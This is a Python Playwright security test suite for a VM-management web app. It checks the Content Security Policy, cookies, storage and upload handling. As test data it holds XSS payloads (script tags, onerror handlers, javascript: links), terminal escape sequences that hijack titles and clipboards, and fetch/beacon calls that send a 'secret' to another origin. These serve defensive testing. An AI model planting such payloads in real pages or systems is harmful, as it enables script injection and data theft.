"""What the browser is told and holds to: no script but our own runs, no secret lies about, nothing goes elsewhere."""

from __future__ import annotations

import json
import re

from playwright.sync_api import expect

from tests.api.world import PASSWORD
from tests.host import Host
from tests.web.conftest import NewPerson
from tests.web.elsewhere import Elsewhere
from tests.web.person import Person
from tests.web.test_pages import PAGES
from velocity.client import Client
from velocity.contract.machines import Display

TRIES = {
    "an inline script": ("script-src-elem", "element('script', {textContent: 'ran = 1'})"),
    "a handler in a text": ("script-src-attr", "element('p', {innerHTML: '<img src=data:, onerror=\"ran = 1\">'})"),
    "a link that is a script": ("script-src-elem", "element('a', {href: 'javascript:ran=1'}).click()"),
    "a script out of thin air": ("script-src-elem", "element('script', {src: made('ran = 1')})"),
    "a script of another site": ("script-src-elem", "element('script', {src: elsewhere + '/x.js'})"),
    "a text as a script": ("script-src", "setTimeout(() => { try { eval('ran = 1') } catch {} })"),
    "a worker": ("worker-src", "new Worker(made('0'))"),
    "a frame of another site": ("frame-src", "element('iframe', {src: elsewhere})"),
    "a plug-in": ("object-src", "element('object', {data: elsewhere})"),
    "a picture of another site": ("img-src", "element('img', {src: elsewhere})"),
    "a request to another site": ("connect-src", "fetch(elsewhere + '?secret', {mode: 'no-cors'}).catch(() => 0)"),
    "a beacon": ("connect-src", "navigator.sendBeacon(elsewhere, 'secret')"),
    "a websocket to another site": ("connect-src", "new WebSocket(elsewhere.replace('http', 'ws'))"),
    "a form to another site": ("form-action", "element('form', {action: elsewhere, method: 'post'}).submit()"),
    "another base": ("base-uri", "element('base', {href: elsewhere})"),
}
"""What a script could try that got into the page after all, and the directive that forbids it."""
TRY = """elsewhere => new Promise(tell => {
    window.ran = 0
    document.addEventListener("securitypolicyviolation", event => tell(event.effectiveDirective), {once: true})
    const element = (tag, parts) => document.body.appendChild(Object.assign(document.createElement(tag), parts))
    const made = text => URL.createObjectURL(new Blob([text], {type: "text/javascript"}))
    setTimeout(() => tell("nothing forbade it"), 60_000)
    WHAT
})"""
KEPT = """async () => ({
    cookie: document.cookie,
    kept: Object.entries({...localStorage}),
    forTheTab: Object.entries({...sessionStorage}),
    databases: (await indexedDB.databases()).length,
    caches: typeof caches === "undefined" ? 0 : (await caches.keys()).length,
    workers: navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0,
    shown: document.documentElement.outerHTML,
    place: [location.href, window.name, JSON.stringify(history.state)],
})"""
EVIL = "<img src=data:, onerror='ran=1'><script>ran=1</script>"
NAMELESS = {"/vms/2", "/create", "/hosts", "/users", "/users/0", "/users/1", "/tasks", "/settings"}
"""The pages that show nothing of that name; all others do."""


def test_what_the_browser_is_told(host: Host, person: NewPerson) -> None:
    one = person(host.url)
    told = {}
    one.page.on("response", lambda answer: told.update({answer.url.removeprefix(host.url): answer.headers}))
    one.sign_in("root")
    scripts = [path for path in told if path.startswith("/assets/") and path.endswith(".js")]
    for path in ["/", *scripts]:
        policy = dict(part.split(" ", 1) for part in told[path]["content-security-policy"].split("; "))
        assert policy["default-src"] == policy["script-src"] == policy["form-action"] == "'self'", path
        assert policy["frame-ancestors"] == policy["object-src"] == policy["base-uri"] == "'none'"
        assert told[path]["referrer-policy"] == "no-referrer"
        assert told[path]["cross-origin-opener-policy"] == "same-origin"
    answers = [path for path in told if re.match("/[uvmth]/", path)]
    assert "/u/session" in answers
    for path in answers:
        assert told[path]["cache-control"] == "no-store" or path.startswith("/v/events"), path
        assert told[path]["cross-origin-resource-policy"] == "same-origin"
    assert all(headers["x-content-type-options"] == "nosniff" for headers in told.values())
    (cookie,) = one.page.context.cookies()
    assert (cookie["name"], cookie["httpOnly"], cookie["sameSite"]) == ("velocity", True, "Strict")
    assert (cookie["domain"], cookie["path"]) == ("127.0.0.1", "/")


def test_no_foreign_script_runs_and_nothing_goes_elsewhere(root: Person, elsewhere: Elsewhere) -> None:
    for name, (directive, what) in TRIES.items():
        assert root.page.evaluate(TRY.replace("WHAT", what), elsewhere.stranger) == directive, name
        assert root.page.evaluate("window.ran") == 0, name
    assert elsewhere.asked == []

    def told() -> list[str]:
        """What the browser has told of it, which it does some time after the page hears it."""
        found = [one for one in root.complaints if "Content Security Policy" in one]
        return found if len(found) >= len(TRIES) else []

    said = root.until(told)
    tried = [one for one in root.complaints if one.startswith("a request elsewhere")]  # by the page, but not sent
    root.complaints = [one for one in root.complaints if one not in said + tried]


def test_a_link_out_tells_nobody_where_one_was(root: Person, elsewhere: Elsewhere) -> None:
    link = "url => document.body.appendChild(Object.assign(document.createElement('a'), {href: url})).click()"
    root.go("/settings")
    root.page.evaluate(link, elsewhere.neighbour + "/out")
    root.page.wait_for_url(elsewhere.neighbour + "/out")
    ((_, headers),) = [one for one in elsewhere.asked if one[0] == "/out"]
    assert headers["referer"] is None
    root.excuse("a request elsewhere", 1)


def test_no_secret_lies_about(host: Host, root: Person) -> None:
    page = root.page
    host.ok("vm", "create", "web", "--memory", "64M")
    host.ok("vm", "start", "web")
    root.go("/vms")
    page.get_by_role("button", name="Columns").click()
    page.get_by_role("menuitem").first.click()
    for path in ("/settings", "/vms/1/serial", "/vms"):
        root.go(path)
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        found = page.evaluate(KEPT)
        csrf = page.evaluate("fetch('/u/session', {method: 'POST', body: '{}'}).then(it => it.json())")["csrf"]
        (cookie,) = page.context.cookies()
        assert found["cookie"] == ""
        assert found["forTheTab"] == []
        assert (found["databases"], found["caches"], found["workers"]) == (0, 0, 0)
        kept = {name for name, _ in found["kept"]}
        assert kept - {"velocity.recent"} == {"velocity.columns.vms", "velocity.session"}, "looks, and that one is in"
        for secret in (cookie["value"], csrf, PASSWORD, host.key):
            assert secret not in json.dumps(found)


def test_names_that_people_chose_are_text(host: Host, root: Person) -> None:
    with Client(host.url, host.key) as client:
        gid = client.create_group(name=EVIL, parent_gid=0).gid
        user = EVIL.replace(" ", "/")
        uid = client.create_user(name=user, password=PASSWORD).uid
        client.grant_permission(uid=uid, gid=gid, permission="velocity.vm.view")
        client.create_medium(mpid=1, gid=0, name=EVIL, type=EVIL[:32], size=1 << 20)
        client.delete_medium(mid=client.create_medium(mpid=1, gid=0, name=EVIL + "2", type="DISK", size=1).mid)
        client.create_vm(name=EVIL, gid=0, cpus=1, memory_mib=64, displays=[Display(name=EVIL, width=64, height=64)])
        client.create_vm(name="off", gid=0, cpus=1, memory_mib=64)
        client.set_vm_state(vmid=1, state="RUNNING")
    (run,) = host.hypervisor.runs.values()
    run.say(f"\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;javascript:ran=1\x07{EVIL}\x1b]8;;\x07\r\n".encode())
    places = {path: EVIL if title == "web" else title for path, title in PAGES.items()}
    for path, title in (places | {f"/groups/{gid}": "Groups", f"/users/{uid}": user, "/vms/1/serial": EVIL}).items():
        root.go(path)
        expect(root.page.get_by_role("heading", level=1)).to_contain_text(title)
        expect(root.page.get_by_label("Loading")).to_have_count(0)
        if path not in NAMELESS:
            expect(root.page.get_by_text(EVIL)).not_to_have_count(0)
        assert root.page.evaluate("window.ran") is None, path
        assert "owned" not in root.page.title()


def test_what_was_uploaded_is_no_page_of_ours(host: Host, root: Person) -> None:
    """A file that somebody uploads is handed out as a file, whatever it holds and calls itself."""
    text = f"<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'>{EVIL}</svg>"
    file = host.data.parent / "evil.html"
    file.write_text(text)
    for kind in ("text/html", "image/svg+xml"):
        host.ok("media", "upload", str(file), "--type", kind, "--name", kind)
    with Client(host.url, host.key) as client:
        media = client.list_media(gid=0).media
    assert len(media) == 2
    for medium in media:
        with root.page.expect_download() as download:
            root.page.evaluate("url => location.assign(url)", f"/m/media/content/{medium.mid}")
        assert download.value.path().read_text() == text
        assert root.page.url == host.url + "/settings"
